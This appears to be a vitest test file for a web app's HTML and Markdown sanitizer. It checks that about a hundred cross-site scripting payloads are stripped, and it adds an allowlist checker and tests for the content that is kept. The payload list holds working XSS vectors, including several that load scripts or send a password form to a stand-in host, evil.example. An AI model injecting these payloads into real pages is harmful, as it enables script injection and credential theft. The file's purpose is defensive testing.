import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.ts';
import { sanitizeDocument, hasVisibleContent } from './sanitize.ts';

const PNG = 'data:image/png;base64,iVBORw0KGgo=';

/** Attempts to run code, load resources, send data or cover the page. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script >alert(1)</script foo="bar">',
  '<script/x>alert(1)</script>',
  '<script\u00a0>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src onerror=alert(1)//',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/api/v1/users/session">',
  `<img src="${PNG}" srcset="https://evil.example/x 2x" onload=alert(1)>`,
  '<image src=x onerror=alert(1)>',
  '<picture><source srcset="https://evil.example/x"><img src=x></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>here</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="https://evil.example/x.html">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>x',
  '<body background="javascript:alert(1)">x',
  '<table background="https://evil.example/x"><td>x</td></table>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<div style="text-align:right;background-image:url(javascript:alert(1))">x</div>',
  '<div style="text-align:/**/right\\";position:fixed">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/?)}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://bna.test/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/en/account" target="_top">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<a href=https://ok.example/"onmouseover="alert(1)>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<p id="__proto__" class="admin" name="cookie" contenteditable accesskey=x tabindex=1 draggable=true>x</p>',
  '<p is="x-evil" slot="x" popover popovertarget=y part=z>x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<div><p <script>alert(1)</script>>x',
  '"><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p title="--><script>alert(1)</script>">x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<td><script>alert(1)</script>',
  '<a><svg><a href="javascript:alert(1)">',
  '<img alt="`<script>alert(1)</script>" src="' + PNG + '">',
];

const TAG = /^<\/?([a-z][a-z0-9]*)((?: [a-z]+(?:="[^"<>]*")?)*)( \/)?>$/;
const TAGS =
  /^(?:h[1-6]|p|br|hr|[uo]l|li|d[ltd]|blockquote|pre|code|kbd|samp|strong|b|em|i|u|s|del|ins|mark|small|su[bp]|span|div|section|article|header|footer|main|aside|address|figure|figcaption|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td|a|img|abbr|time|cite|q|wbr)$/;
const ATTRIBUTES =
  /^(?:style|title|dir|href|target|rel|src|alt|width|height|colspan|rowspan|scope|span|start|reversed|type|value|datetime)$/;

/** Checks the result with independent rules: returns the tags that are not on a list, or have other attributes. */
function findUnsafeTags(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !isHarmless(tag));
}

const VALUES: { readonly [attribute: string]: RegExp } = {
  href: /^https?:\/\/[a-z]/,
  src: /^data:image\/(?:png|jpeg|gif|webp);base64,[\w+/=]+$/,
  style: /^(?:(?:text-align|font-weight|font-style|white-space):[a-z0-9-]+;?)+$/,
};

function isHarmless(tag: string): boolean {
  const { 1: name = '', 2: attributes = '' } = TAG.exec(tag) ?? [];
  if (!TAGS.test(name)) return false;
  if (
    name === 'a' &&
    !tag.startsWith('</') &&
    !/ href="http.* target="_blank" rel="noopener noreferrer nofollow"/.test(tag)
  ) {
    return false;
  }
  return [...attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)].every(
    ({ 1: attribute = '', 2: value = '' }) =>
      ATTRIBUTES.test(attribute) && (VALUES[attribute] === undefined || VALUES[attribute].test(value)),
  );
}

// @threat U3
it('the independent rules find harmful tags', () => {
  for (const html of [
    '<script>',
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<img src="x" />',
    '<p style="color:red">',
    '<p',
    '<a href="https://x.example">',
  ]) {
    expect([html, findUnsafeTags(html).length]).toEqual([html, 1]);
  }
});

// @threat U3
describe('active content', () => {
  // @req 12.17 @threat U3
  it.each(PAYLOADS)('is removed from HTML: %s', (payload) => {
    const { html } = sanitizeDocument(`<h1>Overview</h1>${payload}<p>The end.</p>`);
    expect(html).toContain('<h1>Overview</h1>');
    expect(findUnsafeTags(html)).toEqual([]);
    // Sanitizing is idempotent: another parse finds nothing more.
    expect(sanitizeDocument(html).html).toBe(html);
  });

  // @threat U3
  it.each(PAYLOADS)('is removed from Markdown: %s', (payload) => {
    expect(
      findUnsafeTags(sanitizeDocument(renderMarkdown(`# Overview\n\n${payload}\n\n- ${payload}\n\n> ${payload}`)).html),
    ).toEqual([]);
  });

  // @threat U3
  it.each([
    '[x](javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '![x](https://evil.example/x.png)',
    '![x](data:image/svg+xml,x)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x](https://ok.example "a\\" onmouseover=alert(1)")',
    '```html" onclick="alert(1)\n<script>\n```',
    '![" onerror="alert(1)](x)',
    '- [x] done <input type=checkbox onclick=alert(1)>',
  ])('is removed from rendered Markdown: %j', (markdown) => {
    expect(findUnsafeTags(sanitizeDocument(renderMarkdown(markdown)).html)).toEqual([]);
  });

  // @threat U3
  it('is removed at any depth and in any number', () => {
    const deep = sanitizeDocument(`${'<div>'.repeat(10_000)}<script>alert(1)</script>x`).html;
    expect(findUnsafeTags(deep)).toEqual([]);
    expect(deep.match(/<div>/g)?.length).toBeLessThanOrEqual(200);
    expect(findUnsafeTags(sanitizeDocument('<img src=x onerror=alert(1)><p>x'.repeat(3_000)).html)).toEqual([]);
  });
});

describe('a sanitized document', () => {
  it('keeps headings, lists, tables, links, images and alignment', () => {
    const html = [
      '<h2>Movers</h2>',
      '<table><caption>Top</caption><thead><tr><th scope="col">Symbol</th></tr></thead><tbody><tr><td colspan="2" style="text-align:right">5 %</td></tr></tbody></table>',
      '<ol start="3"><li>one</li></ol>',
      `<figure><img src="${PNG}" alt="Chart" width="20" /><figcaption>Chart</figcaption></figure>`,
      '<blockquote><p>Buy &amp; hold</p></blockquote><hr /><pre><code>a &lt; b</code></pre>',
    ].join('');
    expect(sanitizeDocument(html)).toEqual({ html, removed: [] });
    expect(sanitizeDocument('<a href="https://ok.example/a?b=1&amp;c=2">ok</a>').html).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">ok</a>',
    );
  });

  it('comes with the removed items and their counts', () => {
    const { removed } = sanitizeDocument(
      '<html><head><title>t</title><style>p{}</style></head><body class="x"><script>1</script><script>2</script>' +
        '<p onclick="x" style="color:red">a</p><img src="https://evil.example/x.png" alt="y"><a href="/en">b</a><svg><path/></svg></body></html>',
    );
    expect(removed).toEqual([
      { name: 'script', count: 2 },
      { name: 'img', count: 1 },
      { name: 'link without a web address', count: 1 },
      { name: 'onclick attribute', count: 1 },
      { name: 'style', count: 1 },
      { name: 'style attribute', count: 1 },
      { name: 'svg', count: 1 },
    ]);
  });

  it('shows task lists without form fields', () => {
    const { html, removed } = sanitizeDocument(renderMarkdown('- [x] read\n- [ ] write'));
    expect([html.includes('☑ read'), html.includes('☐ write'), removed]).toEqual([true, true, []]);
  });

  it('has visible content if it has text or an image', () => {
    expect(['<p>x</p>', `<img src="${PNG}" />`].map(hasVisibleContent)).toEqual([true, true]);
    expect(
      ['', '<p></p>', '<hr />', '<p>\u00a0\u200b</p>', '<table><tr><td> </td></tr></table>'].map(hasVisibleContent),
    ).toEqual([false, false, false, false, false]);
  });
});
